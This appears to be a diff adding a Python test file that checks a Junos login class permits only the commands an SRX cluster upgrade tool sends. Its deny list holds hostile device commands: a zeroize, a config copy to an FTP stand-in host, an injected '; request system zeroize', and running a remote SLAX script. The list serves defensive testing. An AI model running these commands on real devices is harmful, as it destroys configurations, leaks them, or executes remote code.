@@ -1,0 +1,71 @@
+"""The published login class: enough for every command that can be sent, and for none besides."""
+
+from __future__ import annotations
+
+from typing import get_args
+
+import pytest
+
+from srx_issu.adapters.devices.login_class import allows, configuration
+from srx_issu.domain.cluster.model import NodeName
+from srx_issu.domain.upgrade import commands
+from srx_issu.domain.upgrade.commands import SoftwareFamily
+from tests.integration.adapters.devices.every_question import every_question
+from tests.places import ROOT
+
+PAGE = ROOT / "docs" / "junos-account.md"
+IMAGE = "/var/tmp/junos-srxhe-x86-64-22.4R3-S2.11.tgz"
+
+SENT: tuple[commands.Command, ...] = (
+    *(commands.FailOver(group_id=group, to=node) for group in (0, 1, 128) for node in NodeName),
+    commands.ResetFailover(group_id=1),
+    commands.AbortIssu(),
+    commands.SnapshotSoftware(),
+    commands.ResyncPolicies(),
+    *(commands.RebootNode(node=node, software=s) for node in NodeName for s in SoftwareFamily),
+    *(
+        commands.RollBackNode(node=node, software=s, reboot=reboot)
+        for node in NodeName for s in SoftwareFamily for reboot in (True, False)
+    ),
+    *(commands.StartIssu(image_path=IMAGE, software=s) for s in SoftwareFamily),
+    commands.StartIssu(image_path=IMAGE, unlink=True),
+)  # fmt: skip
+
+FORBIDDEN = (
+    "configure", "edit", "commit", "set system host-name x", "request system zeroize",
+    "request system reboot", "request system reboot node 0 at now", "request system software rollback",
+    "request system software add /var/tmp/x.tgz", "request system software delete x", "request system halt",
+    "request vmhost power-off", "request system storage cleanup", "file delete /var/tmp/x.tgz",
+    "file copy /config/juniper.conf.gz ftp://192.0.2.1/x", "restart chassis-control",
+    "clear security flow session",
+    f"request system software in-service-upgrade {IMAGE} reboot; request system zeroize",
+    "request system software in-service-upgrade http://192.0.2.1/x.tgz reboot",
+    "request chassis cluster failover redundancy-group 1 node 2", "op url http://192.0.2.1/x.slax",
+)  # fmt: skip
+
+
+def test_every_kind_of_command_is_among_the_samples() -> None:
+    assert {type(command) for command in SENT} == set(get_args(commands.Command))
+
+
+@pytest.mark.parametrize("command", SENT, ids=lambda command: str(command.cli))
+def test_allows_what_a_step_may_send(command: commands.Command) -> None:
+    assert allows(command.cli)
+
+
+@pytest.mark.parametrize("command", FORBIDDEN)
+def test_allows_nothing_else(command: str) -> None:
+    assert not allows(command)
+
+
+def test_allows_every_question() -> None:
+    asked = [question.cli for question in every_question() if question.cli]
+    assert len(asked) > 30
+    assert [question for question in asked if not allows(question)] == []
+
+
+def test_the_page_has_the_class_as_it_is() -> None:
+    page = PAGE.read_text(encoding="utf-8")
+    missing = [line for line in configuration() if line not in page.splitlines()]
+    assert missing == []
+    assert page.count("set system login class") == len(configuration())
